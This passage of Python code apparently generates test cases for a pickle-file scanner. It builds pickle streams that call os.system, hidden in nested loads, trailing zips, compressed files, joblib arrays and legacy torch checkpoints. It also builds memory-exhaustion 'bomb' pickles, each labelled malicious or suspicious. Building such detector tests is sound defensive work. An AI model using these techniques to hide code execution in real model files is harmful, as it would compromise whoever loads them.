    yield "stacked_third_protocol0.pkl", pickle(NONE) + pickle(NONE, 4) + b"cos\nsystem\n(S'" + COMMAND.encode() + b"'\ntR.", "third stream, protocol 0"
    yield "trailing_zip.pkl", pickle(mapping((text("a"), integer(1)))) + tiny_zip("archive/data.pkl", pickle(SYSTEM)), "a zip with a pickle behind the stream"
    yield "nested_in_bytes.pkl", pickle(call("_pickle", "loads", blob(pickle(SYSTEM)))), "pickle.loads of an embedded stream"
    yield "nested_three_deep.pkl", pickle(call("pickle", "loads", blob(pickle(call("pickle", "loads", blob(pickle(SYSTEM))))))), "loads in loads in loads"
    yield "long_string_comment.pkl", pickle(text("A" * 200_000) + POP + SYSTEM), "200 kB of text before the payload"
    yield "deep_tuples.pkl", pickle(EMPTY_TUPLE + T1 * 5000 + POP + SYSTEM), "five thousand nested tuples before the payload"
    yield "call_as_dict_key.pkl", pickle(EMPTY_DICT + SYSTEM + NONE + SETITEM), "the call's result is a dictionary key"
    yield "call_in_frozenset.pkl", framed(MARK + SYSTEM + b"\x91"), "the call is inside a FROZENSET"
    yield "call_in_state.pkl", pickle(name("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + mapping((text("x"), SYSTEM)) + BUILD), \
        "the call is inside a BUILD state"
    yield "empty_lines.pkl", b"cposix\nsystem\n" + MARK + b"V" + COMMAND.encode() + b"\ntR" + b"." + b"\n" * 50, "protocol 0 with newlines behind"
    yield "crlf_name.pkl", proto(2) + b"cos\r\nsystem\r\n" + MARK + line_string(COMMAND) + TUPLE + REDUCE + STOP, "carriage returns in GLOBAL"
    yield "spaces_in_name.pkl", proto(2) + name(" os", "system") + pack(text(COMMAND)) + REDUCE + STOP, "a blank before the module's name"


def bombs():
    doubling = EMPTY_LIST + put(0) + b"".join(
        EMPTY_LIST + put(i + 1) + MARK + get(i) * 10 + APPENDS for i in range(12))
    yield "bomb_memo_references.pkl", pickle(doubling), "suspicious", "a billion-laughs of list references"
    yield "bomb_string_repeat.pkl", pickle(call("operator", "mul", text("A" * 1000), b"\x8a\x05" + (10**10).to_bytes(5, "little"))), "suspicious", \
        "operator.mul makes ten terabytes"
    yield "bomb_integer_power.pkl", pickle(call("operator", "pow", integer(10), integer(10**9))), "suspicious", "operator.pow of a billion digits"
    yield "bomb_bytes.pkl", pickle(call("builtins", "bytearray", b"\x8a\x06" + (10**13).to_bytes(6, "little")), 3), "suspicious", "bytearray(10**13)"
    yield "bomb_range_list.pkl", pickle(call("builtins", "list", call("builtins", "range", b"\x8a\x06" + (10**13).to_bytes(6, "little"))), 3), "suspicious", \
        "list(range(10**13))"
    yield "bomb_itertools_repeat.pkl", pickle(call("builtins", "list", call("itertools", "repeat", NONE)), 3), "suspicious", "list(itertools.repeat(None))"
    yield "bomb_dup.pkl", pickle(MARK + text("A" * 60000) + DUP * 300000 + TUPLE), "suspicious", "three hundred thousand DUPs of a long text"


# -------------------------------------------------------- containers in family

def tiny_zip(member, content):
    raw_name = member.encode()
    crc = zlib.crc32(content)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 0, 0, 0x21, crc, len(content), len(content), len(raw_name), 0) + raw_name + content
    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 0, 0, 0x21, crc, len(content), len(content), len(raw_name), 0, 0, 0, 0, 0, 0) + raw_name
    return local + central + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 1, 1, len(central), len(local), 0)


def joblib_array(count=4, pad=True):
    """NumpyArrayWrapper with raw float64 bytes inside the stream, as joblib >= 1.0 writes it."""
    state = mapping(
        (text("subclass"), name("numpy", "ndarray")),
        (text("shape"), pack(integer(count))),
        (text("order"), text("C")),
        (text("dtype"), call("numpy", "dtype", text("f8"), b"\x89", b"\x88")
         + MARK + integer(3) + text("<") + NONE + NONE + NONE + integer(-1) + integer(-1) + integer(0) + TUPLE + BUILD),
        (text("allow_mmap"), b"\x88"),
        (text("numpy_array_alignment_bytes"), integer(16)))
    wrapper = name("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD
    padding = b"\x02" + b"\xff\xff" if pad else b""
    return wrapper + padding + struct.pack(f"<{count}d", *[float(i) for i in range(count)])


def joblib_array_at(offset, count=4):
    """The same, its padding computed for a wrapper that begins at `offset` of the file."""
    body = joblib_array(count, pad=False)
    wrapper = body[:-8 * count]
    at = offset + len(wrapper) + 1
    length = 16 - at % 16
    return wrapper + bytes([length]) + b"\xff" * length + body[-8 * count:]


def joblib_stream(after):
    head = proto(4) + MARK
    return head + joblib_array_at(len(head)) + after + TUPLE + STOP


def torch_legacy(payload):
    """The five pickles of torch.save before 1.6; `payload` is the object's stream."""
    magic = b"\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19"
    system = mapping((text("protocol_version"), b"M\xe9\x03"), (text("little_endian"), b"\x88"),
                     (text("type_sizes"), mapping((text("short"), b"K\x02"), (text("int"), b"K\x04"), (text("long"), b"K\x04"))))
    storage = struct.pack("<Q", 2) + struct.pack("<2f", 1.0, 2.0)
    return pickle(magic) + pickle(b"M\xe9\x03") + pickle(system) + payload + pickle(listing(text("0"))) + storage


def torch_tensor():
    storage = pack(text("storage"), name("torch", "FloatStorage"), text("0"), text("cpu"), integer(2)) + b"Q"
    return call("torch._utils", "_rebuild_tensor_v2", storage, integer(0), pack(integer(2)), pack(integer(1)), b"\x89",
                call("collections", "OrderedDict"))


def containers():
    after_array = joblib_stream(SYSTEM)
    yield "joblib_after_array.joblib", after_array, "joblib: the payload follows the raw bytes of the first array"
    head = proto(4) + MARK
    before = head + SYSTEM
    yield "joblib_before_array.joblib", before + joblib_array_at(len(before)) + TUPLE + STOP, "joblib: the payload precedes the array"
    yield "joblib_after_array.joblib.gz", gzip.compress(after_array, 6, mtime=0), "the same, gzip"
    yield "joblib_after_array.joblib.z", zlib.compress(after_array), "the same, zlib"
    yield "joblib_after_array.joblib.bz2", bz2.compress(after_array), "the same, bz2"
    yield "joblib_after_array.joblib.xz", lzma.compress(after_array, lzma.FORMAT_XZ), "the same, xz"
    yield "joblib_after_array.joblib.lzma", lzma.compress(after_array, lzma.FORMAT_ALONE), "the same, lzma"
    first = head + joblib_array_at(len(head))
    two = first + joblib_array_at(len(first), 9)
    yield "joblib_after_second_array.joblib", two + OS_SYSTEM + TUPLE + STOP, "joblib: the payload follows the second array"
    object_dtype = joblib_array(1, pad=False)[:-8].replace(text("f8"), text("O8")) + pickle(SYSTEM)
    yield "joblib_object_array.joblib", proto(4) + object_dtype + STOP, "joblib: an object array holds a nested pickle"
    yield "joblib_payload_as_shape.joblib", proto(4) + name("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ \
        + mapping((text("shape"), SYSTEM)) + BUILD + STOP, "joblib: the call stands in the wrapper's shape"
    yield "gzip_pickle.pkl.gz", gzip.compress(pickle(SYSTEM), 6, mtime=0), "a pickle in gzip"
    yield "double_gzip.pkl.gz", gzip.compress(gzip.compress(pickle(SYSTEM), 6, mtime=0), 6, mtime=0), "a pickle in gzip in gzip"

    yield "torch_legacy_payload.pt", torch_legacy(pickle(mapping((text("w"), torch_tensor()), (text("x"), SYSTEM)))), "legacy torch: payload beside a tensor"
    yield "torch_legacy_fourth.pt", torch_legacy(pickle(mapping((text("w"), torch_tensor())))).replace(
        pickle(listing(text("0"))), pickle(SYSTEM + POP + listing(text("0")))), "legacy torch: payload in the list of storage keys"
    yield "torch_legacy_system_info.pt", pickle(b"\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19") + pickle(b"M\xe9\x03") + pickle(SYSTEM) \
        + pickle(NONE) + pickle(EMPTY_LIST), "legacy torch: payload in the system information"
    yield "torch_legacy_storage_pickle.pt", torch_legacy(pickle(mapping((text("w"), torch_tensor())))) + bytes(64) + pickle(SYSTEM, 4), "legacy torch: payload behind the storages"
    yield "torch_persistent_class.pt", torch_legacy(pickle(
        pack(text("module"), name("posix", "system"), text("model.py"), text(CODE)) + b"Q")), "legacy torch: source text in a persistent id"


def cases():
    for group in (plain_calls, other_opcodes, indirections, encodings, containers):
        for file_name, content, what in group():
            expect = "suspicious" if file_name in DOUBTFUL else "malicious"
            yield "pickle/" + file_name, content, expect, what
    for file_name, content, expect, what in bombs():
        yield "pickle/" + file_name, content, expect, what


# Where the format leaves real doubt whether anything bad happens.
DOUBTFUL = {
    "bare_reference.pkl",            # referred to, never called
    "unknown_module_call.pkl",
    "unknown_reference.pkl",
    "nonascii_module.pkl",
    "spaces_in_name.pkl",
    "crlf_name.pkl",
    "cloudpickle_code.pkl",          # code by design, nothing dangerous named
    "ext_registry.pkl",
    "torch_legacy_storage_pickle.pt",  # hidden, but no loader gets there
    "sqlite_connect.pkl",
    "linecache_read.pkl",
    "mmap_private.pkl",
    "sorted_key.pkl",
    "build_on_module_dict.pkl",
    "append_on_path.pkl",
    "cgitb.pkl",
    "turtle_config.pkl",
    "profile_pstats.pkl",
    "function_globals.pkl",
    "subclasses_walk.pkl",
    "bytearray8_and_buffers.pkl",
    "torch_persistent_class.pt",
}
